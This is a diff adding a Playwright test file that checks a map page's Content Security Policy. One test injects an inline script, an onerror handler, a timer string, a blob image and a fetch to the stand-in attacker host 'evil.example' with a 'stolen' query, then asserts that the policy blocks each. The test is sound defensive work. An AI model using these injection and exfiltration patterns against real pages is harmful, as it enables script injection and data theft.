@@ -1,0 +1,78 @@
+import { expect } from "@std/expect";
+import { afterAll, beforeAll, describe, it } from "@std/testing/bdd";
+import type { Browser, Page } from "playwright-core";
+import { type RunningApp, startApp } from "../helpers/app.ts";
+import { launchBrowser, openMap, watchedPage } from "../helpers/browser.ts";
+import { spotsOfColor } from "../helpers/pixels.ts";
+
+const BOSTON = ["user.boston@acme.com", "boston"] as const;
+
+let browser: Browser;
+let app: RunningApp;
+beforeAll(async () => {
+  [browser, app] = await Promise.all([launchBrowser(), startApp()]);
+});
+afterAll(async () => {
+  await browser.close();
+  await app.stop();
+});
+
+/** Opens the map and counts what the policy forbade on the way, in the page and in its workers. */
+async function visit(colorScheme: "light" | "dark") {
+  const watched = await watchedPage(browser, { colorScheme });
+  const { page } = watched;
+  await page.addInitScript(() => {
+    const violations: string[] = [];
+    Reflect.set(globalThis, "violations", violations);
+    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
+      violations.push(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+  await openMap(page, app.origin, ...BOSTON);
+  return watched;
+}
+
+const violations = (page: Page): Promise<string[]> =>
+  page.evaluate(() => Reflect.get(globalThis, "violations"));
+
+describe("the policy for content in a browser", () => {
+  for (
+    const [colorScheme, point] of [["light", [216, 96, 52]], ["dark", [232, 142, 92]]] as const
+  ) {
+    it(`lets the ${colorScheme} map draw, its workers, fonts and icons with it, and forbids nothing of it`, async () => {
+      const { context, complaints, page } = await visit(colorScheme);
+      while ((await spotsOfColor(page, point)).length <= 5);
+      expect(await violations(page)).toEqual([]);
+      expect(complaints).toEqual([]);
+      await context.close();
+    });
+  }
+
+  it("forbids what was not there when the page was made", async () => {
+    const { context, page } = await visit("light");
+    await page.evaluate(() => {
+      const script = document.createElement("script");
+      script.textContent = "globalThis.ran = true";
+      document.body.append(script);
+      const image = document.createElement("img");
+      image.src = URL.createObjectURL(new Blob(["x"], { type: "image/png" }));
+      image.setAttribute("onerror", "globalThis.ran = true");
+      document.body.append(image);
+      // What a debugger evaluates may evaluate more; a timer's text may not.
+      Reflect.apply(setTimeout, globalThis, ["globalThis.ran = true"]);
+      return fetch("https://evil.example/?stolen").catch(() => undefined);
+    });
+    await page.waitForFunction(() => Reflect.get(globalThis, "violations").length >= 5);
+    expect(new Set(await violations(page))).toEqual(
+      new Set([
+        "script-src-elem inline",
+        "script-src-attr inline",
+        "script-src eval",
+        "img-src blob",
+        "connect-src https://evil.example/?stolen",
+      ]),
+    );
+    expect(await page.evaluate(() => Reflect.get(globalThis, "ran"))).toBeUndefined();
+    await context.close();
+  });
+});
